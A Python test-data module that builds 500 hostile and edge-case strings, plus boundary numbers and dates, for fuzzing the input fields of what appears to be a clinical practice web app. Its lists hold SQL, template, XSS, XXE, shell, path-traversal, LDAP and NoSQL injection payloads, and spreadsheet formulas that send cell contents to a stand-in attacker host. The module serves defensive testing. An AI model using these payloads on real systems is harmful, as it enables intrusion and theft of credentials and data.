"""500 texts for text fields, and numbers and dates at their edges.

The kinds follow public lists of naughty strings; the texts are our own.
"""

import random

COUNT = 500
SEED = 4

SQL = """'
"
' OR '1'='1
') OR ('1'='1
1; DROP TABLE cases_case; --
' UNION SELECT email, password FROM accounts_user --
Robert'); DELETE FROM accounts_practice;--
'; SELECT pg_sleep(30); --
\\'; SHUTDOWN --
1' AND (SELECT count(*) FROM sqlite_master) > 0 --
%' ESCAPE '!
_%_%_
x' || (SELECT 'y') || 'z
$$; SELECT 1; $$
admin'/*
*/ OR 1=1 /*
0x27204f52
case when 1=1 then 1 else 1/0 end"""
TEMPLATES = """{{ 7|add:7 }}
{% load log %}{% get_admin_log 10 as log %}
{{ settings.SECRET_KEY }}
{% include "/etc/passwd" %}
{{ request.user.password }}
{% debug %}
{{ ''.__class__.__mro__ }}
{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}
${7*7}
#{7*7}
<%= 7*7 %>
[[ 7*7 ]]
@(7*7)
{{
}}
{%
{# never closed
{{ patient|safe }}
{% csrf_token %}
{{{{{{{{{{
*{7*7}
__proto__
constructor.prototype"""
MARKUP = """<script>alert(1)</script>
</title><script>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<svg onload=alert(1)>
<svg/onload=alert(1)//
</textarea><script>alert(1)</script>
</option></select><script>alert(1)</script>
<iframe srcdoc="<script>alert(1)</script>">
<a href="javascript:alert(1)">press</a>
javascript:alert(1)
JaVaScRiPt:alert(1)
data:text/html;base64,PHNjcmlwdD4=
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<style>*{display:none}</style>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<base href=//evil.example/>
<form action=https://evil.example/><input name=password>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<body onload=alert(1)>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;
&amp;amp;amp;
&notanentity;
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
" onmouseover="alert(1)
' style='position:fixed;inset:0
`onclick=alert(1)`
<b>bold
</b></b></b>
<p style="font-size:9999px">large
<img src="file:///etc/passwd">
<img src="http://169.254.169.254/latest/meta-data/">
<embed src="//evil.example/x.swf">
<object data="data:text/html,<script>alert(1)</script>">
<h1>Approved by the lab</h1>
[press](javascript:alert(1))
![picture](https://evil.example/p.png)
**bold** _it_ ~~gone~~
# Heading
```
> quoted
| a | b |
---
<https://evil.example>"""
FORMATS = """%s%s%s%s%s%s
%n%n%n%n
%d
%(patient_name)s
%x%x%x%x
%p
%99999999s
%1$s
{}
{0}
{0.__class__}
{patient_name}
{:>99999999}
$patient
${patient}
$(patient)
%%
%
100%
%00
%0a%0d
%2e%2e%2f
%u0041
\\0
\\x00
\\n
\\"""
SHELL = """; ls -la
| cat /etc/passwd
&& sleep 30
`sleep 30`
$(sleep 30)
> /tmp/written
< /dev/zero
!!
~root
*
?
[a-z]
{a,b}
-rf /
--help
--version
-
--
' ; sleep 30 ; '
\\$IFS
() { :;}; echo vulnerable
powershell -c calc
%COMSPEC%
^&calc"""
PATHS = """../../../../etc/passwd
..\\..\\..\\windows\\win.ini
/etc/passwd
C:\\Windows\\System32
\\\\evil.example\\share
file:///etc/passwd
....//....//etc/passwd
..%2f..%2fetc%2fpasswd
..%c0%afetc
.
..
/
//
//evil.example
///evil.example
https://evil.example
http:evil.example
CON
NUL.txt
/dev/null
/proc/self/environ
~/.ssh/id_rsa
.htaccess
php://filter/convert.base64-encode/resource=index"""
DIRECTORY = """*)(uid=*))(|(uid=*
*()|%26'
)(cn=*
(&(objectClass=*)
admin)(|(password=*)
\\2a\\28\\29
cn=admin,dc=lab,dc=example
' or count(parent::*)=0 or 'a'='b
//user/*[1]
{"$gt": ""}
[$ne]=1
{"$where": "sleep(30000)"}"""
FORMULAS = """=1+1
=HYPERLINK("https://evil.example/?x="&A1,"Open")
=cmd|' /C calc'!A0
+1+1
+cmd|' /C calc'!A0
-1+1
-2+3+cmd|' /C calc'!A0
@SUM(1+1)
@import
=WEBSERVICE("https://evil.example/")
=IMPORTXML("https://evil.example/","//a")
=DDE("cmd";"/C calc";"x")
 =1+1
  @SUM(A1)
'=1+1
''=1+1
'
"=1+1"
;=1+1
,=1+1
=
+
-
@
-5
+49 30 123456
=-1
|1+1
!A1
#REF!
#N/A"""
NUMBERS_AS_TEXT = """0
-0
1
-1
007
1e309
-1e309
NaN
Infinity
-Infinity
0x7fffffff
0b11
0o17
1_000
1,000
1.000,00
2147483647
2147483648
-2147483649
9223372036854775807
9223372036854775808
18446744073709551616
99999999999999999999999999
0.1e-400
1/0
1/2
½
½ + ¼
²
10^100
true
True
false
null
None
nil
undefined
NULL
N/A
yes
on
1969-12-31
0000-00-00
31/02/2026
24:00:00
1E5
3-4
MAR1
SEPT2
1:2
00501"""
WORDS = """undef
hasOwnProperty
toString
then
class
id
pk
self
return
Null
O'Brien
D'Arcy-O'Neil
Müller-Lüdenscheidt
Ñuñez
Zażółć gęślą jaźń
Þórir Ægisson
Đặng Thị Ngọc Ánh
Łukasz
İstanbul
STRASSE straße
ﬁrst ﬀ ligature
X Æ A-12
Jr.
Null Null
Test
Mr. Ms. Dr.
Jane "JJ" Roe
Roe, Jane
Jane;Roe
Jane\\tRoe
Jane & John
a@b.example
a b@c.example
"a b"@c.example
a@b.example, c@d.example
a@b.example;c@d.example
<a@b.example>
a@xn--80ak6aa92e.example
mailto:a@b.example?bcc=c@d.example
+1 (555) 010-0199 ext. 4
1Z5R89390357567127
#14
14, 30
tooth 14
18S
UR8S
A-T"""
LONE_SCRIPTS = [
    "田中さん", "김철수", "王小明 醫生", "Алексей Иванов", "Γιώργος Παπαδόπουλος",
    "สมชาย ใจดี", "नमस्ते डॉक्टर", "தமிழ் பெயர்", "አበበ ቢቂላ", "ქართული სახელი",
    "Հայերեն Անուն", "ᚠᛇᚻ᛫ᛒᛦᚦ", "𐌰𐌱𐌲 𐍃", "ᏣᎳᎩ", "ᠮᠣᠩᠭᠣᠯ", "မြန်မာ အမည်",
    "ខ្មែរ ឈ្មោះ", "ລາວ ຊື່", "සිංහල නම", "ትግርኛ",
]  # fmt: skip
RIGHT_TO_LEFT = [
    "\u05d3\u05e0\u05d9\u05d0\u05dc \u05db\u05d4\u05df",
    "\u0645\u062d\u0645\u062f \u0639\u0644\u064a",
    "\u202egpj.exe",
    "\u202dJane\u202c Roe",
    "Jane \u2067\u05d3\u05e0\u2069 Roe",
    "\u200fJane\u200e",
    "abc \u05d0\u05d1\u05d2 123 \u05d3",
    "\u061cJane",
    "\u202e" * 40 + "Jane",
    "\u2066\u2066\u2066never ended",
    "\u06f1\u06f2\u06f3\u06f4",
    "\ufdfd",
]
INVISIBLE = [
    "Ja\u200bne", "\u200b", "\u200c\u200d", "\ufeffJane", "Ja\u00adne", "\u2060Jane",
    "\u180eJane", "\u3164", "\u115f\u1160", "\uffa0", "\u2800", "\u00a0", "\u2003\u2009",
    "\u3000", "Ja\u00a0ne", "\u2028", "Jane\u2029Roe", "Jane\u0085Roe", "\ufe0f",
    "Jane\ufe0fRoe", "\u034f", "\U000e0041\U000e007f", "\U000e0100",
]  # fmt: skip
CONTROLS = [
    "Jane\0Roe", "\0", "\0" * 9, "Jane\x07Roe", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07",
    "\x08\x08\x08", "\x7f", "\x80\x81\x9f", "Jane\x0bRoe", "Jane\x0cRoe", "\x1a", "\x04",
    "\x0e\x0f", "".join(map(chr, range(1, 32))),
]  # fmt: skip
LINES = [
    "Jane\r\nRoe", "Jane\nRoe", "Jane\rRoe", "\r\n", "\n\n\n\n\nJane", "Jane\n" * 200,
    "Jane\r\nBcc: victim@evil.example", "Jane\nSubject: Won", "Jane\r\n\r\n<b>body</b>",
    "Jane%0d%0aSet-Cookie: sessionid=x", "\r\nContent-Type: text/html\r\n\r\n<script>",
    "Jane\r\n.\r\nQUIT\r\n", "\tJane", "Jane\t\tRoe", "  Jane  ", " ", "\t", "\n",
    "Jane\nlevel=ERROR forged=1", "Jane\r\n--boundary\r\nContent-Disposition: form-data",
]  # fmt: skip
ODD_UNICODE = [
    "\U0001f9b7", "\U0001f9b7\U0001f3fd", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1fa\U0001f1f8", "1\ufe0f\u20e3", "\U0001f9d1\U0001f3ff\u200d\u2695\ufe0f",
    "\U0001f600" * 60, "Z\u0361\u0352\u0301a\u0310\u0334l\u0327\u0321g\u0362\u0489o",
    "o" + "\u0301" * 300, "\u0301Jane", "e\u0301 \u00e9", "A\u030a \u00c5 \u212b",
    "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\U0001fffe", "\ue000", "\U000f0000",
    "\u0130\u0131", "\u1e9e\u00df", "\u017f\u212a", "\uff2a\uff41\uff4e\uff45",
    "\U0001d4d9\U0001d4f6\U0001d4ee", "\u24bf\u24d0", "J\u0430ne", "\u13a0\u0391\u0410A",
    "p\u0430ypal", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\uff07 OR 1=1",
    "\u02b9 OR 1=1", "\u2024\u2024/etc", "\u2044etc\u2044passwd", "\uff0e\uff0e\uff0f",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\u22121+1", "\u2013\u2014\u2015",
    "\u201cJane\u201d \u2018Roe\u2019", "\u1d43\u1d47", "\u2460\u2461", "\u2167", "\u00b2\u00b3",
    "\u0661\u0662", "\u0e01\u0e33", "\u0915\u094d\u0937", "\ud55c", "\u1112\u1161\u11ab",
    "\u00aa\u00ba", "\u037e", "\u1fef", "\u2126 \u03a9", "\ufb33", "\u0958",
    "\U00020000\U0002a6d6", "\u2ff0\u2ff1", "\u1f98", "\ufb03",
]  # fmt: skip
HUGE = [
    "x" * 119, "x" * 120, "x" * 121, "x" * 255, "x" * 256, "x" * 500, "x" * 501, "x" * 5000,
    "x" * 5001, "x" * 10_000, "x" * 10_001, "x" * 100_000, "\u00e9" * 120, "\u00e9" * 121,
    "\U0001f9b7" * 120, "\U0001f9b7" * 121, "\ufdfa" * 120, "<" * 5000, "&" * 5000, "(" * 3000,
    "a " * 5000, "a\n" * 4999, "," * 1000, "9" * 400, "9" * 5000, "-" * 300, "/" * 2000,
    "W" * 120, ("word" * 30)[:120], "\u0301" * 120, "\u05d0" * 120, "a@" + "b" * 250 + ".example",
    "b" * 65 + "@c.example", "[" * 1000 + "]" * 1000, '{"a":' * 500,
]  # fmt: skip

_LISTS = [
    SQL,
    TEMPLATES,
    MARKUP,
    FORMATS,
    SHELL,
    PATHS,
    DIRECTORY,
    FORMULAS,
    NUMBERS_AS_TEXT,
    WORDS,
]
BY_HAND = [
    *(line for text in _LISTS for line in text.split("\n")),
    *LONE_SCRIPTS, *RIGHT_TO_LEFT, *INVISIBLE, *CONTROLS, *LINES, *ODD_UNICODE, *HUGE,
    "",
]  # fmt: skip
_SPREAD = [(0x20, 0x7E), (0xA0, 0x24F), (0x300, 0x36F), (0x590, 0x6FF), (0x2000, 0x206F),
           (0x3040, 0x30FF), (0x4E00, 0x4EFF), (0xE000, 0xE0FF), (0x1F600, 0x1F64F)]  # fmt: skip


def strings(seed: int = SEED) -> list[str]:
    """The 500 texts: those written by hand, then mixtures of them and of any characters."""
    dice = random.Random(seed)
    found = list(dict.fromkeys(BY_HAND))
    short = [text for text in found if 0 < len(text) < 60]
    while len(found) < COUNT:
        if dice.random() < 0.5:
            made = dice.choice(["", " ", "\n", "\0", "\u202e"]).join(dice.sample(short, 3))
        else:
            made = "".join(
                chr(dice.randint(*dice.choice(_SPREAD))) for _ in range(dice.randint(1, 40))
            )
        if made not in found:
            found.append(made)
    return found[:COUNT]


def numbers() -> list[str]:
    """What is typed into number fields, and into addresses where a number belongs."""
    edges = {0, 1, 4, 5, 127, 128, 255, 256, 32767, 32768, 65535, 65536}
    edges |= {2**31 - 1, 2**31, 2**32, 2**63 - 1, 2**63, 2**64, 10**18, 10**19, 10**30, 10**400}
    signed = sorted(edges | {-edge for edge in edges})
    odd = ["", " 5 ", "5.0", "5.5", "5,0", "1e3", "1e999", "NaN", "inf", "-inf", "0x10", "١٢"]
    odd += ["--5", "+5", "5-", "1_0", "½", "²", "5\0", "five", "9" * 5000, "-" + "9" * 5000]
    return [*map(str, signed), *odd]


def dates() -> list[str]:
    """Dates, times and moments at their edges and beyond."""
    days = ["0001-01-01", "0000-01-01", "1582-10-10", "1899-12-31", "1900-02-29", "1969-12-31"]
    days += ["1970-01-01", "1999-12-31", "2000-02-29", "2000-01-01", "2026-02-29", "2026-02-30"]
    days += ["2038-01-19", "2038-01-20", "2100-12-31", "2101-01-01", "2100-02-29", "9999-12-31"]
    days += ["10000-01-01", "-0001-01-01", "99999-99-99", "2026-13-01", "2026-00-10", "2026-1-1"]
    days += ["01/02/2026", "31/12/2026", "12/31/26", "31.12.2026", "2026/12/31", "20261231"]
    days += ["2026-W53-7", "tomorrow", "now", "\uff11\uff12/31/2026", "٢٠٢٦-01-01", "2026-12-31\0"]
    days += [" 2026-12-31 ", "Dec 31 2026", "31 December 2026", "Feb 30 2026", "2026-12-31T00:00"]
    times = ["00:00", "23:59:59.999999", "24:00", "25:61", "12:00 AM", "02:30", "-1:00", "1:2:3:4"]
    moments = [f"{day} {hour}" for day in days[:20] for hour in ("00:00", "23:59:59")]
    # Hours that the clocks of New York skip and repeat.
    moments += ["2026-03-08 02:30", "2026-11-01 01:30", "2026-12-31T23:59:60Z"]
    return [*days, *times, *moments]
